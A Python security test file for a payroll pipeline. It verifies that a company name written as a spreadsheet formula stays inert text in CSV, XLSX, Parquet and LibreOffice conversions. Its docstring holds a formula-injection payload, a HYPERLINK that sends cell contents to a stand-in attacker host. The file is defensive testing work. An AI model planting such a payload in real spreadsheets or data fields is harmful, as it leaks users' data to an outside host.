"""Formula injection: a company named like a spreadsheet formula, from Nmbrs to every export format.

Company 102 of the secured sandbox is called `=HYPERLINK("http://evil.example/?x="&A2,"Klik hier")`
(names come from Nmbrs, typed by anyone with access there). After a real sync and `payroll export`,
no spreadsheet may evaluate it: CSV cells get OWASP's leading single quote, XLSX cells are string
cells with Excel's quote prefix, and LibreOffice, opening both, shows the text as typed.
"""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from pipelines.cli import main
from pipelines.lib import export
from pipelines.lib.spreadsheet import FORMULA_TRIGGERS
from tests.support.security import FORMULA_COMPANY, FORMULA_COMPANY_ID

pytestmark = pytest.mark.security

SOFFICE = shutil.which("soffice")
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
needs_libreoffice = pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice is not installed (soffice not on PATH): apt-get install -y libreoffice-calc-nogui",
)


def _export(secured, out: Path, *args: str) -> None:
    with secured.pipeline.active():
        result = CliRunner().invoke(main, ["export", "--out", str(out), *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output


def _soffice(source: Path, target_format: str, out: Path, profile: Path) -> list[Path]:
    """Convert with headless LibreOffice, in its own profile (parallel runs do not share one)."""
    out.mkdir(parents=True, exist_ok=True)
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            target_format,
            "--outdir",
            str(out),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    converted = sorted(out.iterdir())
    assert converted, f"LibreOffice wrote nothing for {source.name}"
    return converted


@pytest.fixture(scope="module")
def exports(secured, tmp_path_factory) -> dict[str, Path]:
    folders = {}
    for name, args in {
        "csv": ("--format", "csv"),
        "excel-nl": ("--format", "csv", "--csv-dialect", "excel-nl"),
        "xlsx": ("--format", "xlsx"),
        "parquet": ("--format", "parquet"),
    }.items():
        folders[name] = tmp_path_factory.mktemp(f"formula-{name}")
        _export(secured, folders[name], *args)
    return folders


def test_the_formula_name_reaches_the_marts_as_typed(secured):
    assert secured.pipeline.query(
        "select company_name from marts.dim_companies where company_id = %s", (FORMULA_COMPANY_ID,)
    ) == [(FORMULA_COMPANY,)]


@pytest.mark.parametrize(
    ("dialect", "delimiter", "encoding"), [("csv", ",", "utf-8"), ("excel-nl", ";", "utf-8-sig")]
)
def test_csv_cells_that_start_like_a_formula_get_a_leading_quote(exports, dialect, delimiter, encoding):
    files = sorted(exports[dialect].glob("*.csv"))
    assert {path.name for path in files} == {f"{query.name}.csv" for query in export.QUERIES}
    names = []
    for path in files:
        header, *rows = csv.reader(path.read_text(encoding).splitlines(), delimiter=delimiter)
        for row in rows:
            record = dict(zip(header, row, strict=True))
            if record.get("company_id") == str(FORMULA_COMPANY_ID):  # the three-way has company_ids
                names.append(record["company_name"])
            for value in row:  # nothing a spreadsheet would run: numbers, or text behind a quote
                assert not value.startswith(FORMULA_TRIGGERS) or NUMBER.fullmatch(value), (path.name, value)
    assert names and set(names) == {"'" + FORMULA_COMPANY}


def test_xlsx_text_is_always_a_string_cell(exports):
    path = exports["xlsx"] / "payroll_export.xlsx"
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets and not any(
            b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets
        )
    workbook = openpyxl.load_workbook(path)
    found = [
        cell
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == FORMULA_COMPANY
    ]
    assert {cell.parent.title for cell in found} == {
        "Summary",
        "Data table",
        "Company costs",
        "Balance sheet postings",
        "Reconciliation",
        "Work list",
    }
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    assert not [
        cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]


def test_parquet_keeps_the_text_exactly(exports):
    table = pq.read_table(exports["parquet"] / "payroll_data_table.parquet").to_pylist()
    assert {row["company_name"] for row in table if row["company_id"] == FORMULA_COMPANY_ID} == {
        FORMULA_COMPANY
    }


@needs_libreoffice
def test_libreoffice_opens_the_workbook_and_evaluates_no_formula(exports, tmp_path):
    """Every sheet saved as CSV by LibreOffice: the name comes out as typed, never as "Klik hier"."""
    converted = _soffice(
        exports["xlsx"] / "payroll_export.xlsx",
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",  # -1: every sheet
        tmp_path / "csv",
        tmp_path / "profile",
    )
    assert len(converted) == 1 + len(export.WORKBOOK_ORDER)  # the Summary sheet, then one per table
    cells = [
        value
        for path in converted
        for row in csv.reader(path.read_text("utf-8").splitlines())
        for value in row
    ]
    assert cells.count(FORMULA_COMPANY) > 6
    assert "Klik hier" not in cells
    assert not [value for value in cells if value.startswith(("Err:", "#NAME", "#VALUE"))]


@needs_libreoffice
def test_libreoffice_opens_the_csv_and_evaluates_no_formula(exports, tmp_path):
    """LibreOffice evaluates `=...` in a CSV it imports; behind the quote the name stays text."""
    (converted,) = _soffice(
        exports["csv"] / "payroll_data_table.csv", "xlsx", tmp_path / "xlsx", tmp_path / "profile"
    )
    sheet = openpyxl.load_workbook(converted).active
    header = [cell.value for cell in sheet[1]]
    names = {
        row[header.index("company_name")].value
        for row in sheet.iter_rows(min_row=2)
        if row[header.index("company_id")].value == FORMULA_COMPANY_ID
    }
    assert names == {"'" + FORMULA_COMPANY}
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
